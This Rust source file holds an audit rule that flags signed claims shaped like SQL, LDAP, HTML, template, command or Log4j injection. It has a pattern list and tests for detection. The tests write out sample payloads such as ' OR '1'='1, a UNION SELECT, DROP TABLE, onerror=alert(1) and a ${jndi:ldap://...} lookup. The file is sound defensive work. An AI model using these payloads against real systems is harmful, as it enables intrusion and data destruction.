//! Claims shaped like attacks on whoever uses them (catalogue 1.11).

use super::{Text, What, evidence, kind, listed, ruling};
use crate::judge::audit::kid::ldap_shape;
use crate::judge::audit::{Confidence, Finding, Rule, Ruling, Severity, Subject};

/// `claim-injection`: a claim shaped like SQL, LDAP, HTML or a template.
pub(in super::super) struct ClaimInjection;

impl Rule for ClaimInjection {
    fn id(&self) -> &'static str {
        "claim-injection"
    }

    fn look(&self, subject: &Subject<'_>) -> Ruling {
        ruling(
            subject,
            |what| matches!(what, What::Injection(_)),
            |seen| {
                let kinds = listed(seen.iter().filter_map(|sight| match sight.what {
                    What::Injection(kind) => Some(kind),
                    _ => None,
                }));
                Finding {
                    rule: self.id(),
                    severity: Severity::Medium,
                    confidence: Confidence::Likely,
                    title: format!("A claim shaped like an attack ({kinds})"),
                    detail: "A signature makes a claim genuine, not harmless: a person may have typed it into a form. Whatever writes it into a query, a page or a log must escape it.".to_owned(),
                    remedy: "Escape claims like any other input, and look at how this one came about.".to_owned(),
                    references: vec!["CWE-20", "CWE-74"],
                    evidence: evidence(seen),
                    refusal: None,
                }
            },
        )
    }
}

/// Pieces of text that say what an attack is, in lower case.
const PIECES: [(&str, &str); 18] = [
    ("<script", "HTML"),
    ("<img ", "HTML"),
    ("<svg", "HTML"),
    ("<iframe", "HTML"),
    ("onerror=", "HTML"),
    ("onload=", "HTML"),
    ("${jndi:", "a look-up of Log4j"),
    ("${", "a template"),
    ("{{", "a template"),
    ("<%", "a template"),
    ("#{", "a template"),
    ("$(", "a command"),
    ("`", "a command"),
    ("' union select", "SQL"),
    ("\" union select", "SQL"),
    ("'; drop ", "SQL"),
    ("';drop ", "SQL"),
    ("'--", "SQL"),
];

/// What a text is shaped like.
pub(super) fn in_text(text: &Text<'_>) -> Option<What> {
    if !text.has(kind::SIGN) {
        return None;
    }
    let lower = text.whole.to_ascii_lowercase();
    let piece = PIECES.iter().find(|(piece, kind)| match *kind {
        // One alone is a matter of style.
        "a command" if *piece == "`" => lower.matches('`').count() > 1,
        "a template" => closes(&lower, piece),
        _ => lower.contains(piece),
    });
    let kind = piece.map(|(_, kind)| *kind);
    let kind = kind.or_else(|| {
        let (_, after) = lower.split_once(['\'', '"'])?;
        is_always_true(after).then_some("SQL")
    });
    // Brackets are common in texts, and a filter has no words between them.
    let kind = kind.or_else(|| ldap_shape(text.whole).map(|_| "LDAP"));
    kind.map(What::Injection)
}

/// Whether `or` or `and` and a condition that always holds stand in a text in lower case: `or 1=1`, `and 'a' = 'a`.
fn is_always_true(text: &str) -> bool {
    let mut words = text.split([' ', '(', ')']).filter(|word| !word.is_empty());
    while let Some(word) = words.next() {
        if !matches!(word.trim_matches(['\'', '"']), "or" | "and" | "||") {
            continue;
        }
        let condition: String = words.clone().take(3).collect();
        let bare = condition.replace(['\'', '"'], "");
        let is_same = bare
            .split_once('=')
            .is_some_and(|(one, other)| !one.is_empty() && other.starts_with(one));
        if is_same || bare.starts_with("true") {
            return true;
        }
    }
    false
}

/// Whether what a template opens is closed after it.
fn closes(text: &str, opening: &str) -> bool {
    let closing = match opening {
        "<%" => "%>",
        "{{" => "}}",
        _ => "}",
    };
    let rest = text.split_once(opening).map(|(_, rest)| rest);
    rest.is_some_and(|rest| rest.contains(closing))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seen(text: &str) -> Option<&'static str> {
        match in_text(&Text::new(text)) {
            Some(What::Injection(kind)) => Some(kind),
            _ => None,
        }
    }

    #[test]
    fn shapes_of_attacks() {
        for (text, kind) in [
            ("x' OR '1'='1", "SQL"),
            ("x') or (1 = 1) --", "SQL"),
            ("x\" and true", "SQL"),
            ("x' UNION SELECT secret FROM users", "SQL"),
            ("Robert'; DROP TABLE students", "SQL"),
            ("admin'--", "SQL"),
            ("*)(uid=*))(|(uid=*", "LDAP"),
            ("<script>alert(1)</script>", "HTML"),
            ("\"><img src=x onerror=alert(1)>", "HTML"),
            ("{{7*7}}", "a template"),
            ("<%= 7*7 %>", "a template"),
            ("${jndi:ldap://b.example/x}", "a look-up of Log4j"),
            ("$(id)", "a command"),
        ] {
            assert_eq!(seen(text), Some(kind), "{text}");
        }
    }

    #[test]
    fn names_and_addresses_are_none() {
        for text in [
            "Miles O'Brien",
            "O'Brien; Jane",
            "O'Neil and Sons = fine",
            "Jane \"JD\" Doe",
            "a < b",
            "Mozilla/5.0 (X11; Linux x86_64)",
            "https://a.example/x?y=1&z={id}",
            "50% {off",
            "d`Artagnan",
            "{\"a\":1}",
        ] {
            assert_eq!(seen(text), None, "{text}");
        }
    }
}
